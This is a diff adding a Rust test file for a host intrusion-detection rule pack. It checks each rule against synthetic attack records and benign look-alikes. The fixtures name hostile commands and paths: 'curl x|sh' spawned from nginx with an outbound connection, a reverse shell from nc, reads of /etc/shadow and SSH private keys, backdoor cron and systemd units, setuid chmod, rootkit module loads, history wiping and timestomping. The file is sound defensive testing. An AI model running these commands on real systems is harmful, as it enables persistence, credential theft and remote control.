@@ -1,0 +1,369 @@
+//! The default rule pack against its fixtures: each rule fires on its
+//! attacks and not on look-alikes.
+
+use std::path::Path;
+
+use super::*;
+use crate::record::json::write_record;
+use crate::record::{Fork, NetKind};
+
+/// (rule id, records that must fire it, look-alikes that must fire nothing)
+fn pack_cases() -> Vec<(&'static str, Vec<Record>, Vec<Record>)> {
+    let t = |s: u64| T0 + s * S;
+    let w = O_WRONLY | O_CREAT | O_TRUNC;
+    let mut web_sh = exec(t(0), 200, 100, "nginx", "/usr/bin/dash", &["sh", "-c", "id"], ["pipe", "pipe", "pipe"]);
+    web_sh.comm = "sh".into();
+    let mut ssh_sh = exec(t(0), 200, 100, "sshd", "/usr/bin/bash", &["-bash"], TTY);
+    ssh_sh.comm = "bash".into();
+    let mut memfd = exec(t(0), 300, 1, "bash", "/proc/self/fd/3", &["x"], ["none", "none", "none"]);
+    memfd.exe = Some(Arc::from("/memfd:payload (deleted)"));
+    let mut kworker_modprobe = exec(
+        t(0),
+        400,
+        2,
+        "kworker/u8:1",
+        "/sbin/modprobe",
+        &["/sbin/modprobe", "-q", "--", "net-pf-10"],
+        ["none", "none", "none"],
+    );
+    kworker_modprobe.ppid = 2;
+    let mut lsmod = exec(t(0), 401, 1, "bash", "/usr/sbin/lsmod", &["lsmod"], TTY);
+    lsmod.exe = Some(Arc::from("/usr/bin/kmod"));
+    let mut insmod = exec(t(0), 402, 1, "bash", "/usr/sbin/insmod", &["insmod", "rootkit.ko"], TTY);
+    insmod.exe = Some(Arc::from("/usr/bin/kmod"));
+    vec![
+        (
+            "RG-PERSIST-CRON",
+            vec![
+                open(t(0), 10, "bash", "/etc/cron.d/backdoor", w),
+                write(t(1), 10, "bash", "/etc/crontab"),
+                rename(t(2), 11, "crontab", "/var/spool/cron/crontabs/tmp.X", "/var/spool/cron/crontabs/root"),
+            ],
+            vec![
+                open(t(0), 10, "cron", "/etc/crontab", O_RDONLY),
+                open(t(1), 10, "cron", "/etc/cron.d/e2scrub_all", O_RDONLY),
+            ],
+        ),
+        (
+            "RG-PERSIST-SYSTEMD",
+            vec![
+                open(t(0), 10, "bash", "/etc/systemd/system/evil.service", w),
+                write(t(1), 10, "tee", "/home/u/.config/systemd/user/evil.timer"),
+                rename(t(2), 10, "mv", "/tmp/x", "/lib/systemd/system/evil.service"),
+            ],
+            vec![
+                open(t(0), 10, "systemctl", "/etc/systemd/system/ssh.service", O_RDONLY | O_CLOEXEC),
+                open(t(1), 10, "bash", "/etc/systemd/system/x.service.d/override.conf", w),
+            ],
+        ),
+        (
+            "RG-PERSIST-SSH-KEYS",
+            vec![
+                open(t(0), 10, "bash", "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT),
+                write(t(1), 10, "bash", "/home/u/.ssh/authorized_keys2"),
+                rename(t(2), 10, "mv", "/tmp/k", "/home/u/.ssh/authorized_keys"),
+            ],
+            vec![open(t(0), 10, "sshd", "/home/u/.ssh/authorized_keys", O_RDONLY)],
+        ),
+        (
+            "RG-PERSIST-SHELL-RC",
+            vec![
+                open(t(0), 10, "bash", "/home/u/.bashrc", O_WRONLY | O_APPEND),
+                write(t(1), 10, "bash", "/etc/profile.d/zz.sh"),
+                open(t(2), 10, "vim", "/root/.profile", w),
+            ],
+            vec![
+                open(t(0), 10, "bash", "/home/u/.bashrc", O_RDONLY),
+                open(t(1), 10, "bash", "/etc/profile.d/locale.sh", O_RDONLY),
+            ],
+        ),
+        (
+            "RG-PERSIST-LD-PRELOAD",
+            vec![
+                open(t(0), 10, "bash", "/etc/ld.so.preload", w),
+                rename(t(1), 10, "mv", "/tmp/p", "/etc/ld.so.preload"),
+            ],
+            vec![open(t(0), 10, "ls", "/etc/ld.so.preload", O_RDONLY | O_CLOEXEC)],
+        ),
+        (
+            "RG-PERSIST-ACCOUNT",
+            vec![
+                rename(t(0), 10, "useradd", "/etc/passwd+", "/etc/passwd"),
+                open(t(1), 10, "bash", "/etc/shadow", O_WRONLY | O_APPEND),
+            ],
+            vec![
+                open(t(0), 10, "id", "/etc/passwd", O_RDONLY | O_CLOEXEC),
+                open(t(1), 10, "id", "/etc/group", O_RDONLY | O_CLOEXEC),
+            ],
+        ),
+        (
+            "RG-PRIV-SUDOERS",
+            vec![
+                open(t(0), 10, "bash", "/etc/sudoers.d/90-evil", w),
+                rename(t(1), 10, "visudo", "/etc/sudoers.tmp", "/etc/sudoers"),
+            ],
+            vec![
+                open(t(0), 10, "sudo", "/etc/sudoers", O_RDONLY),
+                open(t(1), 10, "sudo", "/etc/sudoers.d/README", O_RDONLY),
+            ],
+        ),
+        (
+            "RG-PRIV-SETUID",
+            vec![
+                exec(t(0), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "u+s", "/tmp/sh"], TTY),
+                exec(t(1), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "4755", "/tmp/sh"], TTY),
+                exec(t(2), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "g+s", "/srv/dir"], TTY),
+                exec(t(3), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "+s", "/tmp/sh"], TTY),
+                exec(t(4), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "6755", "/tmp/sh"], TTY),
+            ],
+            vec![
+                exec(t(0), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "755", "/tmp/sh"], TTY),
+                exec(t(1), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "0755", "/tmp/sh"], TTY),
+                exec(t(2), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "u+x", "/tmp/sh"], TTY),
+                exec(t(3), 10, 1, "bash", "/usr/bin/chmod", &["chmod", "1777", "/tmp/d"], TTY),
+            ],
+        ),
+        (
+            "RG-CRED-SENSITIVE-READ",
+            vec![
+                open(t(0), 10, "cat", "/etc/shadow", O_RDONLY),
+                open(t(1), 10, "python3", "/etc/ssh/ssh_host_ed25519_key", O_RDONLY | O_CLOEXEC),
+                open(t(2), 10, "tar", "/root/.ssh/id_rsa", O_RDONLY),
+            ],
+            vec![
+                open(t(0), 10, "unix_chkpwd", "/etc/shadow", O_RDONLY | O_CLOEXEC),
+                open(t(1), 10, "passwd", "/etc/shadow", O_RDONLY | O_CLOEXEC),
+                open(t(2), 10, "sshd", "/etc/ssh/ssh_host_ed25519_key", O_RDONLY),
+                open(t(3), 10, "cat", "/root/.ssh/id_rsa.pub", O_RDONLY),
+                open(t(4), 10, "systemd-userdbd", "/etc/shadow", O_RDONLY),
+            ],
+        ),
+        (
+            "RG-EXEC-WEB-SHELL",
+            vec![web_sh.clone()],
+            vec![
+                exec(t(0), 200, 100, "nginx", "/usr/bin/gzip", &["gzip", "-d"], ["pipe", "pipe", "pipe"]),
+                ssh_sh.clone(),
+            ],
+        ),
+        (
+            "RG-EXEC-REVERSE-SHELL",
+            vec![exec(t(0), 500, 499, "nc", "/usr/bin/bash", &["bash", "-i"], ["socket", "socket", "socket"])],
+            vec![
+                exec(t(0), 500, 499, "sshd", "/usr/bin/bash", &["bash", "-i"], TTY),
+                exec(t(1), 501, 499, "make", "/usr/bin/sh", &["sh", "-c", "cc x.c"], ["pipe", "pipe", "pipe"]),
+            ],
+        ),
+        (
+            "RG-SEQ-WEB-SHELL-CONNECT",
+            vec![
+                exec(t(0), 600, 100, "nginx", "/usr/bin/bash", &["bash", "-c", "curl x|sh"], ["pipe", "pipe", "pipe"]),
+                record(t(1), 601, 600, "bash", "/usr/bin/bash", "bash", Body::Fork(Fork { parent_tid: 600 })),
+                net(t(2), 601, 600, "curl", NetKind::Connect, "203.0.113.9", 443),
+            ],
+            vec![
+                // A shell of an sshd session connecting out.
+                exec(t(0), 700, 100, "sshd", "/usr/bin/bash", &["bash"], TTY),
+                net(t(1), 700, 100, "bash", NetKind::Connect, "203.0.113.9", 443),
+                // nginx connecting to its upstream itself.
+                net(t(2), 100, 1, "nginx", NetKind::Connect, "10.0.0.2", 8080),
+            ],
+        ),
+        (
+            "RG-SEQ-DROP-EXEC",
+            vec![
+                open(t(0), 800, "curl", "/tmp/x", w),
+                exec(t(5), 801, 800, "bash", "/tmp/x", &["/tmp/x"], TTY),
+                rename(t(10), 800, "mv", "/home/u/y", "/dev/shm/y"),
+                exec(t(12), 802, 800, "bash", "/dev/shm/y", &["/dev/shm/y"], TTY),
+            ],
+            vec![
+                open(t(0), 800, "cp", "/usr/local/bin/tool", w),
+                exec(t(5), 801, 800, "bash", "/usr/local/bin/tool", &["tool"], TTY),
+                open(t(6), 800, "vim", "/tmp/notes.txt", w),
+                exec(t(7), 803, 800, "bash", "/usr/bin/cat", &["cat", "/tmp/notes.txt"], TTY),
+            ],
+        ),
+        ("RG-EXEC-FILELESS", vec![memfd], vec![exec(t(0), 300, 1, "bash", "/usr/bin/ls", &["ls"], TTY)]),
+        (
+            "RG-SEQ-DECODE-TO-SHELL",
+            vec![
+                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "-d"], ["pipe", "pipe", "tty"]),
+                exec(t(0), 902, 900, "bash", "/usr/bin/bash", &["bash"], ["pipe", "tty", "tty"]),
+            ],
+            vec![
+                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "-d", "in.b64"], ["tty", "file", "tty"]),
+                exec(t(1), 902, 900, "bash", "/usr/bin/bash", &["bash", "script.sh"], TTY),
+            ],
+        ),
+        (
+            "RG-SEQ-DECODE-TO-SHELL-R",
+            vec![
+                exec(t(0), 902, 900, "bash", "/usr/bin/sh", &["sh"], ["pipe", "tty", "tty"]),
+                exec(t(0), 901, 900, "bash", "/usr/bin/base64", &["base64", "--decode"], ["pipe", "pipe", "tty"]),
+            ],
+            vec![
+                exec(t(0), 902, 900, "bash", "/usr/bin/bash", &["bash"], ["pipe", "tty", "tty"]),
+                exec(t(1), 901, 900, "bash", "/usr/bin/base64", &["base64"], ["pipe", "pipe", "tty"]),
+            ],
+        ),
+        (
+            "RG-EVADE-KMOD-LOAD",
+            vec![insmod, exec(t(1), 403, 1, "bash", "/usr/sbin/modprobe", &["modprobe", "evil"], TTY)],
+            vec![
+                lsmod,
+                kworker_modprobe,
+                exec(t(2), 404, 1, "bash", "/usr/sbin/modprobe", &["modprobe", "-n", "evil"], TTY),
+            ],
+        ),
+        (
+            "RG-EVADE-HISTORY",
+            vec![
+                unlink(t(0), 10, "rm", "/home/u/.bash_history"),
+                open(t(1), 10, "bash", "/root/.bash_history", O_WRONLY | O_TRUNC),
+                rename(t(2), 10, "mv", "/home/u/.zsh_history", "/tmp/h"),
+            ],
+            vec![open(t(0), 10, "bash", "/home/u/.bash_history", O_WRONLY | O_APPEND | O_CREAT)],
+        ),
+        (
+            "RG-EVADE-TIMESTOMP",
+            vec![
+                exec(t(0), 10, 1, "bash", "/usr/bin/touch", &["touch", "-d", "2020-01-01", "/tmp/x"], TTY),
+                exec(t(1), 10, 1, "bash", "/usr/bin/touch", &["touch", "-r", "/bin/ls", "/tmp/x"], TTY),
+                exec(t(2), 10, 1, "bash", "/usr/bin/touch", &["touch", "--reference=/bin/ls", "/tmp/x"], TTY),
+                exec(t(3), 10, 1, "bash", "/usr/bin/touch", &["touch", "-t", "202001010000", "/tmp/x"], TTY),
+            ],
+            vec![exec(t(0), 10, 1, "bash", "/usr/bin/touch", &["touch", "/tmp/x"], TTY)],
+        ),
+        (
+            "RG-NET-SUSPICIOUS-PORT",
+            vec![net(t(0), 10, 1, "nc", NetKind::Connect, "198.51.100.7", 4444)],
+            vec![
+                net(t(0), 10, 1, "curl", NetKind::Connect, "198.51.100.7", 443),
+                net(t(1), 10, 1, "curl", NetKind::Connect, "198.51.100.7", 80),
+                net(t(2), 10, 1, "nc", NetKind::Listen, "0.0.0.0", 4444),
+            ],
+        ),
+    ]
+}
+
+fn ndjson(records: &[Record]) -> String {
+    let mut out = Vec::new();
+    for r in records {
+        write_record(&mut out, r);
+    }
+    String::from_utf8(out).unwrap()
+}
+
+/// Writes the fixture when UPDATE_FIXTURES is set (or it is missing),
+/// else checks the file still matches what the builders make.
+fn fixture(name: &str, records: &[Record]) -> PathBuf {
+    let path = manifest().join("tests/fixtures/rules").join(name);
+    let text = ndjson(records);
+    if std::env::var_os("UPDATE_FIXTURES").is_some() || !path.exists() {
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, &text).unwrap();
+    }
+    assert_eq!(std::fs::read_to_string(&path).unwrap(), text, "{} is stale (UPDATE_FIXTURES=1)", path.display());
+    path
+}
+
+fn replay(path: &Path) -> TestSummary {
+    let mut out = Vec::new();
+    let s = test_events(pack(), path, &mut out).unwrap();
+    // Every output line is valid JSON.
+    for l in out.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
+        let _: serde_json::Value = serde_json::from_slice(l).unwrap();
+    }
+    s
+}
+
+#[test]
+fn default_pack_fires_on_attacks_and_not_on_look_alikes() {
+    let cases = pack_cases();
+    let ids: Vec<String> = pack().rules().map(|r| r.id).collect();
+    for id in &ids {
+        assert!(cases.iter().any(|(c, ..)| c == id), "rule {id} has no fixture");
+    }
+    for (id, pos, benign) in cases {
+        assert!(ids.iter().any(|i| i == id), "{id} not in the pack");
+        let p = replay(&fixture(&format!("{id}.positive.ndjson"), &pos));
+        assert!(p.by_rule.get(id).copied().unwrap_or(0) >= 1, "{id} did not fire: {p:?}");
+        let b = replay(&fixture(&format!("{id}.benign.ndjson"), &benign));
+        assert_eq!(b.alerts, 0, "{id} benign fired: {:?}", b.by_rule);
+    }
+}
+
+#[test]
+fn default_pack_every_positive_record_counts() {
+    // Each single-event positive record fires the rule by itself.
+    for (id, pos, _) in pack_cases() {
+        if id.starts_with("RG-SEQ-") {
+            continue;
+        }
+        let mut e = Engine::new(pack());
+        for r in pos {
+            let got = fired(&mut e, r.clone());
+            assert!(got.iter().any(|g| g == id), "{id} missed {}", ndjson(&[r]));
+        }
+    }
+}
+
+#[test]
+fn original_example_config_loads() {
+    // The original project's sample config: other modules' tables are ignored.
+    let text = include_str!("../../../tests/fixtures/original-example.toml");
+    let s = RuleSet::load(text, Path::new("original-example.toml"), &[]).unwrap();
+    let ids: Vec<_> = s.rules().map(|r| (r.id, r.enabled)).collect();
+    assert_eq!(ids.len(), 4);
+    let mut e = Engine::new(s);
+    let mut r = net(T0, 10, 1, "nc", NetKind::Connect, "198.51.100.7", 4444);
+    let mut alerts = Vec::new();
+    e.process(&mut r, &mut alerts);
+    assert_eq!(r.detection.as_deref(), Some("suspicious_outbound_port"));
+    assert_eq!(alerts.len(), 1, "NET-001 is disabled");
+    assert_eq!(fired(&mut e, open(T0, 1, "vi", "/etc/cron.d/job", O_WRONLY)), vec!["builtin.cron_modified"]);
+    let summary = replay(&fixture("RG-NET-SUSPICIOUS-PORT.positive.ndjson", &pack_cases()[19].1));
+    assert!(summary.to_string().contains("RG-NET-SUSPICIOUS-PORT: 1"), "{summary}");
+}
+
+#[test]
+fn default_pack_rules_are_disableable() {
+    let main = "[detection]\nrule_dirs = [\"config/rules\"]\ndisabled_rules = [\"RG-NET-SUSPICIOUS-PORT\"]\n";
+    let s = RuleSet::load(main, &manifest().join("rand-guard.toml"), &[]).unwrap();
+    let mut e = Engine::new(s);
+    assert!(fired(&mut e, net(T0, 10, 1, "nc", NetKind::Connect, "198.51.100.7", 4444)).is_empty());
+}
+
+#[test]
+fn specialized_conditions_agree_with_the_originals() {
+    // Every pack record (attacks and look-alikes) and the bench mix, with
+    // every single rule whose mask admits the record's type: the condition
+    // the engine runs (specialized to the type) gives the original's result.
+    let set = pack();
+    let mut records: Vec<Record> = pack_cases().into_iter().flat_map(|(_, p, b)| p.into_iter().chain(b)).collect();
+    records.extend(bench_records(2000));
+    let mut compared = 0;
+    for r in &records {
+        let et = r.event_type();
+        for rule in &set.singles {
+            if !rule.mask.has(et) {
+                continue;
+            }
+            let want = rule.cond.eval(r, &[]);
+            assert_eq!(
+                rule.cond.specialize(et).eval(r, &[]),
+                want,
+                "{} on {}",
+                rule.meta.id,
+                ndjson(std::slice::from_ref(r))
+            );
+            compared += 1;
+        }
+        for step in set.seqs.iter().flat_map(|s| &s.steps) {
+            let want = step.mask.has(et) && step.cond.eval(r, &[]);
+            assert_eq!(step.matches(r, &[]), want, "a step on {}", ndjson(std::slice::from_ref(r)));
+        }
+    }
+    assert!(compared > 5000, "only {compared} comparisons");
+}
